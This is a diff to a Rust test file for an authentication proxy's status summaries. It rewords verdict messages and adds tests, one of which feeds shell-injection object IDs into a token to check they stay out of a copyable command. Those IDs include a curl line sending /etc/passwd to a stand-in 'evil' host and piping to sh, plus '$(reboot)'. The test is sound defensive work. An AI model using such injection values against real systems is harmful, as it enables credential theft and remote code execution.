@@ -267,14 +267,14 @@ fn the_verdict_is_one_word_and_one_sentence_with_the_consequence() {
             &[204, 403, 403],
             at(60.0),
             Verdict::Degraded,
-            "Degraded: the target a refuses the identity `default`. 2 requests got 403 since 14:14 UTC.",
+            "Degraded: the target a refuses the identity `default`: 2 requests got 403 since 14:14 UTC.",
         ),
         (
             vec![&good],
             &[401],
             at(60.0),
             Verdict::Degraded,
-            "Degraded: the target a refuses the identity `default`. 1 request got 401 since 14:14 UTC.",
+            "Degraded: the target a refuses the identity `default`: 1 request got 401 since 14:14 UTC.",
         ),
         (
             vec![&bad],
@@ -289,14 +289,14 @@ fn the_verdict_is_one_word_and_one_sentence_with_the_consequence() {
             &[],
             at(0.0),
             Verdict::NotServing,
-            "Not serving yet: the first token is asked for, and requests wait for it.",
+            "Not serving: the first token of the identity `default` is requested; its requests wait for it.",
         ),
         (
             vec![&good],
             &[],
             at(3600.0),
             Verdict::NotServing,
-            "Not serving: the token of the identity `default` has ended, and the next one is asked for; its requests \
+            "Not serving: the token of the identity `default` has expired, and the next one is requested; its requests \
              wait.",
         ),
     ] {
@@ -336,4 +336,63 @@ fn a_refusing_target_keeps_the_proxy_ready_and_tells_who_lacks_which_role() {
         "{}",
         refusals.advice
     );
+}
+
+#[test]
+fn the_summary_names_an_identity_that_keeps_the_proxy_from_being_ready_and_no_other() {
+    let (new, bad) = (slot(), failing());
+    let named = |identity: &str, required| SlotSpec {
+        identity: identity.into(),
+        ..spec(required)
+    };
+    let (optional, required) = (
+        named("optional", Some(false)),
+        named("required", Some(true)),
+    );
+    let slots = [(&optional, bad.state()), (&required, new.state())];
+    let status = Status::of(&slots, &[], &Process::default(), at(1.0));
+    assert_eq!(
+        status.summary,
+        "Not serving: the first token of the identity `required` is requested; its requests wait for it."
+    );
+}
+
+#[test]
+fn a_missing_token_and_a_refusal_are_both_in_the_summary() {
+    let status = judged(&[&with_token(), &slot()], &[&[403]], at(60.0));
+    assert_eq!(
+        status.summary,
+        "Degraded: the first token of the identity `default` is requested; its requests wait for it, the others go \
+         on; and the target a refuses the identity `default`: 1 request got 403 since 14:14 UTC."
+    );
+}
+
+#[test]
+fn a_moment_of_another_day_has_its_date() {
+    let mut slot = slot();
+    let body = r#"{"error":"invalid_request","error_description":"Identity not found"}"#;
+    exchange(&mut slot, START, answer(400, body));
+    let status = judged(&[&slot], &[], at(86_400.0));
+    assert!(
+        status.summary.contains("since 2026-09-21 14:13 UTC"),
+        "{}",
+        status.summary
+    );
+}
+
+/// The token of a hostile endpoint must not get a command onto the page that somebody copies.
+#[test]
+fn an_object_id_that_is_no_uuid_is_not_in_the_command() {
+    for oid in ["x;curl$IFS-d@/etc/passwd$IFS//evil|sh", "$(reboot)", "`id`"] {
+        let claims = URL_SAFE_NO_PAD.encode(format!(r#"{{"oid":"{oid}"}}"#));
+        let mut slot = slot();
+        exchange(&mut slot, START, token(&format!("e30.{claims}.s"), 3600));
+        let status = judged(&[&slot], &[&[403]], at(60.0));
+        let refusals = status.targets[0].refusals.as_ref().expect("refusals");
+        let command = refusals.command.as_deref().expect("a command");
+        assert!(
+            command.contains("<object id>") && !command.contains(oid),
+            "{command}"
+        );
+    }
 }
